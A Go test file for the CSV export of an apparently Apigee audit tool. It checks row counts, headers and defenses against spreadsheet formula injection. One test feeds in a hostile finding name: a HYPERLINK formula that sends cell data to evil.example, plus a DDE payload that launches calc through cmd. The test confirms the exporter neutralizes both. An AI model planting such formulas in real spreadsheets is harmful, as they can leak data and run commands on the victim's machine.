package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"apigee-audit/audit"
	"apigee-audit/internal/text"
)

// readCSV reads a report as programs do, by the names of its columns.
func readCSV(t *testing.T, d *Document) []map[string]string {
	t.Helper()
	data := write(t, "csv", d, Options{})
	if bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Error("the report begins with a byte order mark")
	}
	all, err := csv.NewReader(bytes.NewReader(data)).ReadAll() // which wants as many cells in every row
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(all[0], csvColumns()) {
		t.Errorf("header is %q", all[0])
	}
	var rows []map[string]string
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, c := range cells {
			row[all[0][i]] = c
		}
		rows = append(rows, row)
	}
	return rows
}

func TestCSVHoldsEverything(t *testing.T) {
	d := comparedDocument()
	kinds := map[string]int{}
	for _, row := range readCSV(t, d) {
		kinds[row["type"]+" "+row["status"]]++
	}
	for kind, want := range map[string]int{
		"finding new": 1, "finding known": 1, "finding suppressed": 2, "finding fixed": 1, "finding not-looked-at": 1, "notice ": 1,
	} {
		if kinds[kind] != want {
			t.Errorf("%d rows of %q, want %d", kinds[kind], kind, want)
		}
	}
	if rows := readCSV(t, rich()); len(rows) != len(rich().Findings)+len(rich().Problems)+len(rich().Notices) {
		t.Errorf("%d rows", len(rows))
	}
}

func TestCSVCannotCalculate(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": `\t=1`, "\r=1": `\r=1`, "\n=1": `\n=1`,
		"  =1": "  '=1", `"=1`: `"'=1`, "＝1": "'＝1", "a;=1": "a;'=1", "a; =1": "a; '=1", `a;"=1`: `a;"'=1`, "a=1": "a=1", "a, -1": "a, -1",
		"": "", "plain": "plain", "é": "é",
	} {
		if got := harmlessCell(text.Sanitize(in)); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
	f := neverRefreshed()
	f.Name = `=HYPERLINK("https://evil.example/?x="&A1)` + "\r\n\"=cmd|' /C calc'!A0"
	row := csvFinding(Sanitized(&f), "new")
	if got := harmlessCell(row["name"]); !strings.HasPrefix(got, "'=") || strings.ContainsAny(got, "\r\n") {
		t.Errorf("the name becomes %q", got)
	}
}

// No cell of a hostile report may start what a spreadsheet calculates.
func FuzzCSVCell(f *testing.F) {
	f.Add("=1")
	f.Add(" ;@x")
	f.Fuzz(func(t *testing.T, in string) {
		for part := range strings.SplitSeq(harmlessCell(in), ";") {
			if cell := strings.TrimLeft(part, ` "`); cell != "" && strings.ContainsRune(formulaStarts, []rune(cell)[0]) {
				t.Errorf("%q becomes %q", in, part)
			}
		}
	})
}

func TestCSVDeployments(t *testing.T) {
	f := neverRefreshed()
	f.Deployments = []audit.Deployed{{Environment: "dev", Revision: "9"}, {Environment: "dev", Revision: "12"}, {Environment: "prod", Revision: "12"}}
	if got := csvFinding(&f, "new")["environments"]; got != "dev, prod" {
		t.Errorf("environments are %q", got)
	}
}
